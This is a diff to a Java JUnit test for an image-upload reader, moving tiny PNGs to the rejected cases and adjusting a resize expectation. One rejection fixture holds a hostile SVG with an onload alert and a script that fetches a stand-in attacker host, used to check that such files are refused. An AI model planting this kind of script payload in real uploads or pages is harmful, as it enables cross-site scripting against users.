@@ -49,8 +49,6 @@ class ReadPictureTest {
         Arguments.of("a PNG of 16 bits", png(drawn(300, 200, BufferedImage.TYPE_USHORT_GRAY))),
         Arguments.of("a PNG in black and white", png(drawn(300, 200, BufferedImage.TYPE_BYTE_BINARY))),
         Arguments.of("a JPEG in greys", file(drawn(300, 200, BufferedImage.TYPE_BYTE_GRAY), "jpeg")),
-        Arguments.of("a PNG of one pixel", png(drawn(1, 1, BufferedImage.TYPE_INT_ARGB))),
-        Arguments.of("a PNG as thin as a line", png(drawn(4000, 1, BufferedImage.TYPE_INT_RGB))),
         Arguments.of("noise of 2000 by 2000", file(noise(2000), "jpeg")),
         Arguments.of("noise of 1000 by 1000 with opacity of noise", png(noise(1000))));
   }
@@ -84,7 +82,7 @@ class ReadPictureTest {
 
   @ParameterizedTest(name = "{0} by {1} becomes {2} by {3}")
   @CsvSource({"472, 236, 472, 236", "944, 472, 472, 236", "100, 100, 100, 100", "1000, 1000, 236, 236",
-      "3000, 300, 472, 47", "1, 4000, 1, 236"})
+      "3000, 300, 472, 47", "250, 4000, 15, 236"})
   @DisplayName("keeps its proportions and is never made larger")
   void size(int width, int height, int wide, int high) throws IOException {
     Picture picture = read("crest.png", png(drawn(width, height, BufferedImage.TYPE_INT_RGB)));
@@ -119,6 +117,10 @@ class ReadPictureTest {
     new Random(3).nextBytes(random);
     return Stream.of(
         Arguments.of("an empty file", "crest.png", new byte[0], "picture.empty"),
+        Arguments.of("a PNG of one pixel", "crest.png", png(drawn(1, 1, BufferedImage.TYPE_INT_ARGB)),
+            "picture.tooSmall"),
+        Arguments.of("a PNG as thin as a line", "crest.png", png(drawn(4000, 1, BufferedImage.TYPE_INT_RGB)),
+            "picture.tooSmall"),
         Arguments.of("an SVG", "crest.svg", text("<svg xmlns='http://www.w3.org/2000/svg'/>"), "picture.type"),
         Arguments.of("an SVG with a script", "crest.png", text("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'"
             + " onload='alert(1)'><script>fetch('https://evil.example')</script></svg>"), "picture.type"),
